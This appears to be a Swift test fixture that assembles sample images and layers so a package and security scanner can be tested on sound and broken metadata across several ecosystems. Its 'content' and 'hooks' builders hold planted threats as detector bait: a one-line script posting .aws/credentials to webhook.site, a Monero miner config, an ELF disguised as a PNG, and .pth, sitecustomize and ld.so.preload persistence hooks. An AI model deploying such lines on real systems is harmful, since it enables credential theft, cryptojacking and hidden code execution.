import Core
import TestKit

/// Artifacts in which each kind of metadata that detectors read stands once, sound and broken.
struct DetectorSample {
    let name: String
    let artifact: Sample
    /// Whether it is an image; a layer otherwise.
    var isImage = false

    static func all() throws -> [DetectorSample] {
        let builders: [(String, (inout Sample) throws -> Void)] = [
            ("python", python), ("node", node), ("ruby, dotnet, composer", others), ("dotnet runtime", runtime),
            ("java", java),
            ("programs", programs), ("dpkg", dpkg), ("apk", apk), ("rpm, unreadable", rpm), ("code alone", code),
            ("hooks", hooks), ("bills in wheels", bills), ("content", content), ("started", started),
            ("packed jars", packed), ("named jars", named),
        ]
        return try builders.map { name, build in
            var artifact = Sample()
            try build(&artifact)
            return DetectorSample(name: name, artifact: artifact)
        } + [try image()]
    }

    private static func image() throws -> DetectorSample {
        var artifact = Sample()
        try artifact.add("usr/lib/python3.12/sitecustomize.py", "x")
        try artifact.add("usr/lib/python312.zip", "x")
        try artifact.add("usr/local/lib/python3.12/site-packages/a.pth", "import a\n")
        try artifact.add("etc/ld.so.preload", "/a.so\n")
        return DetectorSample(name: "image", artifact: artifact, isImage: true)
    }

    private static func python(_ sample: inout Sample) throws {
        let site = "python/lib/python3.12/site-packages"
        let metadata =
            "Metadata-Version: 2.1\nName: Requests\nVersion: 2.31.0\nLicense-Expression: Apache-2.0\nRequires-Dist: idna\n\nText\n"
        var record = PythonIntegrityTests.row("requests/__init__.py", "import api\n")
        record += PythonIntegrityTests.row("requests/api.py", "def get(): pass\n")
        record += PythonIntegrityTests.row("requests/gone.py", "gone")
        record += PythonIntegrityTests.row("requests-2.31.0.dist-info/METADATA", metadata)
        record += "../../../bin/tool,,\r\nrequests-2.31.0.dist-info/RECORD,,\r\n"
        try sample.add("\(site)/requests-2.31.0.dist-info/METADATA", metadata)
        try sample.add("\(site)/requests-2.31.0.dist-info/RECORD", record)
        try sample.add("\(site)/requests/__init__.py", "import api\n")
        try sample.add("\(site)/requests/api.py", "def get(): steal()\n")
        try sample.add("\(site)/requests/planted.py", "import os\n")
        try sample.add("\(site)/requests/__pycache__/api.cpython-312.pyc", "x")
        try sample.add("python/bin/tool", "#!python\n", mode: 0o755)
        try sample.add("\(site)/six-1.16.0-py3.12.egg-info", "Name: six\nVersion: 1.16.0\n")
        try sample.add("\(site)/six.py", "x")
        try sample.add("\(site)/old.egg-info/PKG-INFO", "Name: other\nVersion: 2\n")
        try sample.add("\(site)/old.egg-info/SOURCES.txt", "old/__init__.py\n")
        try sample.add("\(site)/old/__init__.py", "x")
        try sample.add("\(site)/bare-1.0.dist-info/WHEEL", "x")
        try sample.add("\(site)/twice-1.0.dist-info/METADATA", "Name: a\nName: b\nVersion: 1.0\n")
        try sample.add("\(site)/nobody/__init__.py", "x")
    }

    private static func bills(_ sample: inout Sample) throws {
        try sample.add("python/a-1.0.dist-info/METADATA", "Name: a\nVersion: 1.0\n")
        try sample.add(
            "python/a-1.0.dist-info/sboms/a.cdx.json",
            #"{"bomFormat":"CycloneDX","components":[{"type":"library","name":"libc","version":"0.2","purl":"pkg:cargo/libc@0.2"}]}"#
        )
        try sample.add("python/a-1.0.dist-info/sboms/broken.json", "{")
    }

    private static func node(_ sample: inout Sample) throws {
        let modules = "nodejs/node_modules"
        try sample.add(
            "\(modules)/left-pad/package.json",
            #"{"name":"left-pad","version":"1.3.0","license":"WTFPL","author":"A <a@b.c>"}"#)
        try sample.add("\(modules)/left-pad/index.js", "x")
        try sample.add("\(modules)/@aws/sdk/package.json", #"{"name":"@aws/sdk","version":"3.0.0"}"#)
        try sample.add("\(modules)/@aws/sdk/node_modules/ms/package.json", #"{"name":"ms","version":"2.0.0"}"#)
        try sample.add("\(modules)/other/package.json", #"{"name":"another","version":1}"#)
        try sample.add("\(modules)/broken/package.json", "{")
        try sample.add("\(modules)/bare/index.js", "x")
        try sample.add("node_modules/.package-lock.json", "{}")
    }

    private static func others(_ sample: inout Sample) throws {
        let gems = "ruby/gems/3.2.0"
        try sample.add(
            "\(gems)/specifications/rack-3.0.8.gemspec",
            "# -*- encoding: utf-8 -*-\n# stub: rack 3.0.8 ruby lib\n\nGem::Specification.new\n")
        try sample.add("\(gems)/specifications/plain-1.0.gemspec", "Gem::Specification.new\n")
        try sample.add("\(gems)/gems/rack-3.0.8/lib/rack.rb", "x")
        try sample.add(
            "app/api.deps.json",
            #"{"runtimeTarget":{"name":"t"},"targets":{"t":{}},"libraries":{"api/1.0.0":{"type":"project"},"Newtonsoft.Json/13.0.1":{"type":"package"}}}"#
        )
        try sample.add("app/broken.deps.json", "[]")
        try sample.add(
            "php/vendor/composer/installed.json",
            #"{"packages":[{"name":"Symfony/HTTP-Kernel","version":"v5.0.1"},{"name":"x"}]}"#)
    }

    private static func java(_ sample: inout Sample) throws {
        func jar(_ artifact: String, _ edit: (inout ZipBuilder) -> Void = { _ in }) -> [UInt8] {
            var jar = ZipBuilder()
            jar.addFile("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\nImplementation-Version: 3\r\n")
            jar.addFile(
                "META-INF/maven/org.x/\(artifact)/pom.properties",
                "version=1.0\ngroupId=org.x\nartifactId=\(artifact)\n")
            edit(&jar)
            return jar.bytes()
        }
        var plain = ZipBuilder()
        plain.addFile(
            "META-INF/MANIFEST.MF",
            "Manifest-Version: 1.0\nImplementation-Version: 2.14.1\nBundle-SymbolicName: org.y.z\n")
        try sample.add("java/lib/plain-2.14.1.jar", plain.bytes())
        try sample.add("java/lib/a.jar", jar("a") { $0.addFile(Array("lib/b.jar".utf8), jar("b")) })
        try sample.add("java/lib/broken.jar", "no zip")
        var own = ZipBuilder()
        own.addFile("com/example/App.class", "x")
        try sample.add("java/lib/own.jar", own.bytes())
    }

    private static func packed(_ sample: inout Sample) throws {
        let coordinates = "META-INF/maven/org.x/a/pom.properties"
        let properties = "version=1.0\ngroupId=org.x\nartifactId=a\n"
        var jar = ZipBuilder()
        jar.addFile(coordinates, properties)
        jar.addFile("org/x/A.class", "x")
        jar.addFile("com/example/App.class", "x")
        try sample.add("lib/app.jar", jar.bytes())
        try sample.add(coordinates, properties)
        try sample.add("org/x/A.class", "x")
        try sample.add("com/example/Handler.class", "x")
    }

    private static func named(_ sample: inout Sample) throws {
        func add(_ file: String, _ manifest: String, _ folder: String) throws {
            var jar = ZipBuilder()
            jar.addFile("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n\(manifest)\n")
            jar.addFile("\(folder)/A.class", "x")
            try sample.add("lib/\(file)", jar.bytes())
        }
        try add(
            "catalina.jar", "Implementation-Title: Apache Tomcat\nImplementation-Version: 9.0.70", "org/apache/catalina"
        )
        try add(
            "spring3-beans-3.x.jar", "Implementation-Title: spring-beans\nImplementation-Version: 5.3.17",
            "org/springframework/a")
        try add("ivy-2.5.1.jar", "Implementation-Vendor-Id: org.apache", "org/apache/ivy")
        try add("tabula-1.0-jar-with-dependencies.jar", "Implementation-Version: 1.0", "technology/tabula")
    }

    private static func programs(_ sample: inout Sample) throws {
        var go = ELF()
        go.add(
            ".go.buildinfo",
            GoSection.inline("go1.21.3", "path\tex.com/a\nmod\tex.com/a\t(devel)\t\ndep\tex.com/b\tv1.0.0\th1:x=\n"))
        try sample.add("bin/go", go.bytes, mode: 0o755)
        var old = ELF()
        old.add(".go.buildinfo", GoSection.inline("go1.19.8", "path\tex.com/old\nbuild\t-compiler=gc\n"))
        try sample.add("bin/old", old.bytes, mode: 0o755)
        var rust = ELF()
        rust.add(".dep-v0", [1, 2, 3])
        try sample.add("bin/rust", rust.bytes, mode: 0o755)
        try sample.add("bin/other", ELF().bytes, mode: 0o755)
        try sample.add("bin/cut", Array(ELF().bytes.prefix(100)), mode: 0o755)
        try sample.add("lib/no.so", "text", mode: 0o755)
    }

    private static func dpkg(_ sample: inout Sample) throws {
        try sample.addLink("bin", to: "usr/bin")
        try sample.add("etc/os-release", "ID=debian\nVERSION_ID=\"12\"\n")
        try sample.add(
            "var/lib/dpkg/status",
            "Package: tool\nStatus: install ok installed\nArchitecture: amd64\nVersion: 1.0-2\nSource: tools (1.0)\nMaintainer: A <a@b.c>\nDepends: libc6 (>= 2)\n\n"
                + "Package: gone\nStatus: deinstall ok config-files\nVersion: 1\n\nPackage: twice\nVersion: 1\nVersion: 2\n"
        )
        try sample.add("var/lib/dpkg/status.d/base", "Package: base-files\nVersion: 12.4\nArchitecture: amd64\n")
        // Of `x`: md5sum.
        let sum = "9dd4e461268c8034f5c8564e155c67a6"
        let files = ["bin/tool", "usr/bin/altered", "usr/lib/gone.so", "usr/bin/moved"]
        try sample.add("var/lib/dpkg/info/tool.md5sums", files.map { "\(sum)  \($0)\n" }.joined())
        try sample.add("var/lib/dpkg/info/tool.list", files.map { "/\($0)\n" }.joined() + "/usr/bin/bare\n")
        try sample.add("var/lib/dpkg/diversions", "/usr/bin/moved\n/usr/bin/moved.real\nother\n")
        for (name, text) in [
            ("tool", "x"), ("altered", "y"), ("moved", "y"), ("moved.real", "x"), ("bare", "x"), ("planted", "#!sh\n"),
        ] { try sample.add("usr/bin/\(name)", text, mode: 0o755) }
    }

    private static func apk(_ sample: inout Sample) throws {
        try sample.add("etc/os-release", "ID=alpine\nVERSION_ID=3.19.1\n")
        try sample.add(
            "lib/apk/db/installed",
            "C:Q1x=\nP:tool\nV:1.2-r0\nA:x86_64\nL:MIT\nD:so:x\no:tools\nF:bin\nR:tool\nZ:Q1EfatjsUqKYSrqv18O1FlA3hcIHI=\nR:gone\n"
                + "Z:Q1EfatjsUqKYSrqv18O1FlA3hcIHI=\nR:altered\nZ:Q1EfatjsUqKYSrqv18O1FlA3hcIHI=\n\nP:broken\n")
        try sample.add("bin/tool", "x", mode: 0o755)
        try sample.add("bin/altered", "y", mode: 0o755)
    }

    private static func runtime(_ sample: inout Sample) throws {
        try sample.add(
            "dotnet/shared/Microsoft.NETCore.App/3.1.23/Microsoft.NETCore.App.deps.json",
            """
            {"targets": {"t": {"runtime.linux-x64.Microsoft.NETCore.App/3.1.23-servicing.22122.4": {"runtime": {"System.dll": {}}}}},
            "libraries": {"runtime.linux-x64.Microsoft.NETCore.App/3.1.23-servicing.22122.4": {"type": "package"}}}
            """)
        try sample.add("dotnet/shared/Microsoft.NETCore.App/3.1.23/System.dll", "MZ")
    }

    /// RPMInventoryTests reads sound databases, which take SQLite to make.
    private static func rpm(_ sample: inout Sample) throws {
        try sample.add("etc/os-release", "ID=amzn\nVERSION_ID=2023\n")
        try sample.add("var/lib/rpm/rpmdb.sqlite", "SQLite format 3\0")
        try sample.add("var/lib/rpm/rpmdb.sqlite-wal", "x")
        try sample.add("var/lib/rpm/Packages", "x")
    }

    private static func hooks(_ sample: inout Sample) throws {
        let site = "python/lib/python3.12/site-packages"
        let known = "import known\n"
        try sample.add("python/planted.pth", "# a\nimport os\n")
        try sample.add("\(site)/known.pth", known)
        try sample.add(
            "\(site)/known-1.0.dist-info/RECORD", PythonIntegrityTests.row("known.pth", known) + "RECORD,,\n")
        try sample.add("\(site)/known-1.0.dist-info/METADATA", "Name: known\nVersion: 1.0\n")
        try sample.add("python/sitecustomize.py", "x")
        try sample.add("python/uuid.py", "x")
        try sample.add("extensions/agent", "x")
        try sample.add("bootstrap", "x", mode: 0o755)
        try sample.add("nodejs/node_modules/aws-sdk/package.json", #"{"name":"aws-sdk","scripts":{"install":"x"}}"#)
        var jar = ZipBuilder()
        jar.addFile("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\r\npremain-class: a.B\r\n")
        try sample.add("java/lib/agent-1.0.jar", jar.bytes())
    }

    private static func content(_ sample: inout Sample) throws {
        try sample.add("token.txt", SecretText.gitHub)
        try sample.add("aws.ini", SecretText.accessKey)
        try sample.add("db.env", SecretText.connection)
        try sample.add("miner.json", #"{"donate-level":1,"url":"stratum+tcp://supportxmr.com:3333"}"#)
        try sample.add("steal.py", "post('https://webhook.site/x', open('.aws/credentials'))")
        var program = [UInt8](repeating: 0, count: 64)
        program.replaceSubrange(
            0..<20, with: [0x7F, 0x45, 0x4C, 0x46, 2, 1, 1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 2, 0, 62, 0])
        try sample.add("logo.png", program)
    }

    private static func started(_ sample: inout Sample) throws {
        try sample.add("extensions/agent", "#!/usr/local/bin/ruby\n", mode: 0o755)
        try sample.add("ruby/lib/csv.rb", "x")
        try sample.add("ruby/gems/3.3.0/gems/a-1.0/ext/a/extconf.rb", "x")
        try sample.add("ruby/gems/3.3.0/specifications/json-2.9.1.gemspec", "x")
        try sample.add("nodejs/node22/node_modules/@aws-sdk/client-s3/package.json", #"{"name":"@aws-sdk/client-s3"}"#)
    }

    private static func code(_ sample: inout Sample) throws {
        try sample.add("lambda_function.py", "x")
        try sample.add("handler/__init__.py", "x")
        try sample.add("handler/deep/part.py", "x")
        try sample.add("index.mjs", "x")
        try sample.add("python/vendored/thing.py", "x")
        try sample.add("README", "x")
    }
}
